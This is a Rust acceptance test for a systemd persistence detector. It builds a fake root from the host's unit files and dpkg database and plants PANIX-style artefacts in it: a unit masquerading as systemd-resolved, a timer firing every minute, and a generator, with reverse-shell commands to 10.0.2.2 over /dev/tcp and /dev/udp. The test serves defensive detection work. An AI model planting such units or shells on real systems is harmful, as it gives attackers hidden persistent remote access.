//! Issue 7's acceptance: a fake root made of this machine's real `/usr/lib/systemd`, `/etc/systemd`
//! and dpkg database, with the artefacts of the seed's four adversary tests (played by `atomic run
//! --root`) and of PANIX-style persistence planted on top. Every planted artefact must be high or
//! critical; no package-owned, unmodified unit may score above low.
//!
//! Needs a Debian-like host (dpkg and systemd's unit files installed), as CI is.

use std::path::Path;
use std::process::Command;

fn unithunt(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_unithunt"))
        .args(args)
        .output()
        .expect("binary runs")
}

/// Copies a tree as it is: directories, regular files (with their modes), symbolic links as
/// links (their targets untouched, so absolute ones point into the fake root once hunted).
/// Anything else (sockets, FIFOs) and unreadable files are left out, as a triage copy would.
fn copy_tree(from: &Path, to: &Path) -> usize {
    let mut copied = 0;
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap().flatten() {
        let (src, dst) = (entry.path(), to.join(entry.file_name()));
        let Ok(kind) = entry.file_type() else {
            continue;
        };
        if kind.is_symlink() {
            let target = std::fs::read_link(&src).unwrap();
            std::os::unix::fs::symlink(target, &dst).unwrap();
        } else if kind.is_dir() {
            copied += copy_tree(&src, &dst);
        } else if kind.is_file() && std::fs::copy(&src, &dst).is_ok() {
            copied += 1;
        }
    }
    copied
}

fn put(root: &Path, inside: &str, text: &str) {
    let p = root.join(inside.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn link(root: &Path, inside: &str, target: &str) {
    let p = root.join(inside.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(target, p).unwrap();
}

#[test]
fn planted_artefacts_are_high_and_packaged_units_stay_low_on_a_copy_of_this_host() {
    assert!(
        Path::new("/usr/lib/systemd/system").is_dir() && Path::new("/var/lib/dpkg/info").is_dir(),
        "this test needs systemd's unit files and a dpkg database (a Debian-like host)"
    );
    let root = std::env::temp_dir().join(format!("unithunt-acceptance-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    let r = root.to_str().unwrap().to_string();
    // The real thing: systemd's units, this host's enablement links and the package database.
    let units = copy_tree(Path::new("/usr/lib/systemd"), &root.join("usr/lib/systemd"));
    assert!(units > 50, "{units} files under /usr/lib/systemd");
    copy_tree(Path::new("/etc/systemd"), &root.join("etc/systemd"));
    copy_tree(
        Path::new("/var/lib/dpkg/info"),
        &root.join("var/lib/dpkg/info"),
    );
    std::fs::copy("/var/lib/dpkg/status", root.join("var/lib/dpkg/status")).unwrap();
    // Merged /usr, as on the host (package lists name /lib/systemd/...).
    for top in ["lib", "bin", "sbin"] {
        if let Ok(target) = std::fs::read_link(format!("/{top}")) {
            std::os::unix::fs::symlink(target, root.join(top)).unwrap();
        }
    }
    put(
        &root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nunithunt-atomic:x:1001:1001::/home/unithunt-atomic:/bin/bash\n",
    );

    // The seed's four adversary tests, played into the root.
    for t in ["1", "2", "3", "4"] {
        let o = unithunt(&["atomic", "run", t, "--root", &r]);
        assert!(o.status.success(), "atomic run {t}: {o:?}");
    }
    // (Tests 1 and 3 leave their enablement links, as `systemctl enable` would.)
    // PANIX (Aegrah/PANIX, `--systemd`): a unit named after resolved's D-Bus alias with a reverse
    // shell, and a timer firing it every minute, in /usr/local/lib/systemd/system.
    put(
        &root,
        "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service",
        "[Unit]\nDescription=Network Name Resolution\n\n[Service]\nType=simple\n\
         ExecStart=/usr/bin/bash -c 'bash -i >& /dev/tcp/10.0.2.2/4444 0>&1'\n\
         Restart=always\nRestartSec=60\n\n[Install]\nWantedBy=multi-user.target\n",
    );
    put(
        &root,
        "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer",
        "[Unit]\nDescription=Network Name Resolution timer\n\n[Timer]\nOnCalendar=*:*:00\nPersistent=true\n\n\
         [Install]\nWantedBy=timers.target\n",
    );
    link(
        &root,
        "/etc/systemd/system/timers.target.wants/dbus-org.freedesktop.resolved.timer",
        "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer",
    );
    // PANIX `--generator`: a generator among the packaged ones, writing a unit and its enablement
    // into /run/systemd/system at every boot and daemon-reload; its output as after a boot.
    let generator = "#!/bin/sh\nmkdir -p /run/systemd/system/multi-user.target.wants\n\
                     cat > /run/systemd/system/makecon.service <<EOF\n[Service]\nType=simple\n\
                     ExecStart=/usr/bin/bash -c 'sh -i >& /dev/udp/10.0.2.2/4445 0>&1'\nEOF\n\
                     ln -sf /run/systemd/system/makecon.service /run/systemd/system/multi-user.target.wants/makecon.service\n";
    put(
        &root,
        "/usr/lib/systemd/system-generators/makecon",
        generator,
    );
    put(
        &root,
        "/run/systemd/system/makecon.service",
        "[Service]\nType=simple\nExecStart=/usr/bin/bash -c 'sh -i >& /dev/udp/10.0.2.2/4445 0>&1'\n",
    );
    link(
        &root,
        "/run/systemd/system/multi-user.target.wants/makecon.service",
        "/run/systemd/system/makecon.service",
    );

    let o = unithunt(&[
        "hunt",
        "--root",
        &r,
        "-o",
        "ndjson",
        "--min-severity",
        "info",
    ]);
    assert_eq!(o.status.code(), Some(0), "{o:?}");
    let findings: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let planted = [
        ("system", "unithunt-atomic-root.service"),
        ("user unithunt-atomic", "unithunt-atomic-user.service"),
        ("system", "syslogd.service"),
        ("generator", "unithunt-atomic-gen"),
        ("system", "unithunt-atomic-gen.service"),
        ("system", "dbus-org.freedesktop.resolved.service"),
        ("system", "dbus-org.freedesktop.resolved.timer"),
        ("generator", "makecon"),
        ("system", "makecon.service"),
    ];
    for (manager, unit) in planted {
        let f = findings
            .iter()
            .find(|f| f["manager"] == manager && f["unit"] == unit)
            .unwrap_or_else(|| panic!("{manager} {unit} not reported"));
        let severity = f["severity"].as_str().unwrap();
        assert!(
            severity == "high" || severity == "critical",
            "{manager} {unit}: {severity}, {}",
            f["reasons"]
        );
        assert_eq!(f["owner"], "unowned", "{manager} {unit}");
    }
    // Every package-owned, unmodified unit and generator: low at most.
    let packaged: Vec<&serde_json::Value> = findings
        .iter()
        .filter(|f| {
            let owner = f["owner"].as_str().unwrap();
            owner != "unowned" && owner != "-" && !owner.ends_with("(modified)")
        })
        .collect();
    assert!(packaged.len() > 50, "{} packaged units", packaged.len());
    for f in &packaged {
        assert!(
            f["score"].as_u64().unwrap() <= 24,
            "{} {} ({}): {}",
            f["manager"],
            f["unit"],
            f["owner"],
            f["reasons"]
        );
    }
    // The timer is high because of what it starts too, and says so.
    let timer = findings
        .iter()
        .find(|f| f["unit"] == "dbus-org.freedesktop.resolved.timer")
        .unwrap();
    assert!(
        timer["reasons"]
            .to_string()
            .contains("starts dbus-org.freedesktop.resolved.service"),
        "{}",
        timer["reasons"]
    );
    eprintln!(
        "{} findings, {} package-owned (all low or info), {} planted (all high or critical)",
        findings.len(),
        packaged.len(),
        planted.len()
    );
    if std::env::var_os("UNITHUNT_KEEP_ROOT").is_none() {
        let _ = std::fs::remove_dir_all(&root);
    }
}
